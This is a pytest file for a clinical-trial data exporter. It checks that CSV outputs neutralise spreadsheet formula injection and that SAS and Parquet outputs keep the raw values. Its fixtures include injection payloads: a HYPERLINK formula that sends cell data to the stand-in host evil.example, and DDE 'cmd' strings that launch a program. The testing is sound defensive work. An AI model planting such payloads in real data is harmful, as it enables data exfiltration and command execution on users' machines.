"""CSV formula injection (OWASP; SYSTEM.md §15 "exports safe to open in a spreadsheet"): every
text cell of every CSV the exporters write that a spreadsheet would run as a formula is written
with a leading apostrophe; numbers stay numbers; SAS transport and Parquet keep the raw text."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pandas as pd
import pytest
from interop_support import source

from ketamine_ptsd.adapters.interop import CONVERTERS
from ketamine_ptsd.services.datasets import AnalysisFrames
from ketamine_ptsd.services.exports import ExportService
from ketamine_ptsd.services.spreadsheet import FORMULA_STARTS, safe_cell, safe_frame

#: One payload per dangerous first character (OWASP's list), cycled over the free-text cells.
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A1,"details")',
    "@SUM(1,1)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
#: The free-text fields of the analysis frames (what a user types, not a controlled code).
FREE_TEXT = {
    "adverse_events": ("term", "action", "outcome"),
    "interventions": ("drug", "route", "reason"),
    "side_effects": ("symptom",),
    "screening": ("reason",),
    "subjects": ("withdrawal_reason", "primary_trauma"),
}
SIGNED_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def _poisoned(frames: dict[str, pd.DataFrame]) -> dict[str, pd.DataFrame]:
    result = dict(frames)
    for name, columns in FREE_TEXT.items():
        frame = frames[name].copy()
        for offset, column in enumerate(columns):
            assert column in frame.columns, (name, column)
            frame[column] = [PAYLOADS[(i + offset) % len(PAYLOADS)] for i in range(len(frame))]
        result[name] = frame
    assert all(len(result[name]) for name in FREE_TEXT), "every poisoned frame has rows"
    return result


def _dangerous_cells(content: bytes, allowed: frozenset[str] = frozenset()) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8"), newline=""))
    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(FORMULA_STARTS)
        and not SIGNED_NUMBER.fullmatch(cell)
        and cell not in allowed
    ]


#: The converters that write CSV (FHIR writes JSON only).
CSV_WRITERS = {"sdtm", "adam", "redcap"}
#: REDCap's action tag, which its data dictionary must keep (the exporter's one exception).
ACTION_TAGS = {"data_dictionary.csv": frozenset({"@READONLY"})}


def _interop_source() -> Any:
    base = source("full")
    frames = _poisoned(dict(base.extract.frames))
    extract = AnalysisFrames(base.extract.protocol_name, frames, base.extract.arms, "full")
    return type(base)(base.protocol, extract, base.assessments, base.infusions, base.patients)


@pytest.mark.parametrize("fmt", sorted(CONVERTERS))
def test_no_interop_csv_cell_starts_a_formula(fmt: str) -> None:
    files = [f for f in CONVERTERS[fmt](_interop_source()) if f.media_type == "text/csv"]
    assert bool(files) == (fmt in CSV_WRITERS)
    for f in files:
        assert _dangerous_cells(f.content, ACTION_TAGS.get(f.name, frozenset())) == [], f.name


def test_sdtm_ae_csv_escapes_the_term_and_the_transport_file_keeps_it_raw() -> None:
    files = {f.name: f for f in CONVERTERS["sdtm"](_interop_source())}
    ae = pd.read_csv(io.BytesIO(files["ae.csv"].content), dtype=str, keep_default_na=False)
    assert "'" + PAYLOADS[0] in set(ae["AETERM"])
    assert "'@SUM(1,1)" in set(ae["AEACNOTH"]) | set(ae["AETERM"])
    xpt = pd.read_sas(io.BytesIO(files["ae.xpt"].content), format="xport", encoding="latin-1")
    assert PAYLOADS[0] in set(xpt["AETERM"])


class _Datasets:
    def __init__(self, extract: AnalysisFrames) -> None:
        self.extract_value = extract

    def extract(self, actor: Any, *, protocol_name: str) -> AnalysisFrames:
        return self.extract_value


class _Audit:
    def record_export(self, actor: Any, what: str, rows: int) -> None:
        pass


def test_the_analysis_dataset_csv_is_escaped_and_parquet_keeps_the_raw_value() -> None:
    from ketamine_ptsd.core.roles import Role
    from ketamine_ptsd.services import Actor

    extract = _interop_source().extract
    service = ExportService(None, _Datasets(extract), _Audit())  # type: ignore[arg-type]
    statistician = Actor(1, "stat", Role.STATISTICIAN)
    for f in service.analysis_dataset(statistician, protocol_name="rct", fmt="csv"):
        assert _dangerous_cells(f.content) == [], f.name
    [ae] = service.analysis_dataset(
        statistician, protocol_name="rct", fmt="parquet", frames=("adverse_events",)
    )
    raw = pd.read_parquet(io.BytesIO(ae.content))
    assert set(raw["term"]) <= set(PAYLOADS) and PAYLOADS[0] in set(raw["term"])


def test_numbers_stay_numbers_and_plain_text_is_untouched() -> None:
    frame = pd.DataFrame({"delta": [-3.5, 2.0], "code": ["-2", "+1.5e3"], "note": ["=1+1", "fine"]})
    safe = safe_frame(frame)
    assert safe["delta"].tolist() == [-3.5, 2.0]
    assert safe["code"].tolist() == ["-2", "+1.5e3"]
    assert safe["note"].tolist() == ["'=1+1", "fine"]
    assert safe_cell(-1) == -1 and safe_cell("@x") == "'@x" and safe_cell(None) is None
